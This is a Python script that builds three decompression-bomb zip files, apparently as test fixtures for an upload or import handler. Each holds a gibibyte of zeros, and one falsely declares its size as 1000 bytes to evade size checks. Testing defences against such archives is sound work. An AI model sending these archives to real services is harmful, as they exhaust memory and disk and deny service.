"""Zips of a few kilobytes that hold a gigabyte: one that says so, one that denies it, one whose manifest it is."""
import struct
import zlib

GIBIBYTE = 1 << 30


def zeros():
    """A gigabyte of zeros, deflated: pieces that stand for themselves, put together."""
    packer = zlib.compressobj(9, wbits=-15)
    piece = packer.compress(bytes(1 << 24)) + packer.flush(zlib.Z_FULL_FLUSH)
    return piece * (GIBIBYTE >> 24) + zlib.compressobj(9, wbits=-15).flush()


def zipped(name, packed, size):
    common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x21, 0, len(packed), size, len(name), 0)
    local = b"PK\3\4" + common + name + packed
    central = b"PK\1\2" + struct.pack("<H", 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    return local + central + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)


for file, name, size in (("honest.zip", b"PAYER0011.gif", GIBIBYTE), ("lying.zip", b"PAYER0011.gif", 1000),
                         ("manifest.zip", b"manifest.csv", GIBIBYTE)):
    with open(file, "wb") as out:
        out.write(zipped(name, zeros(), size))
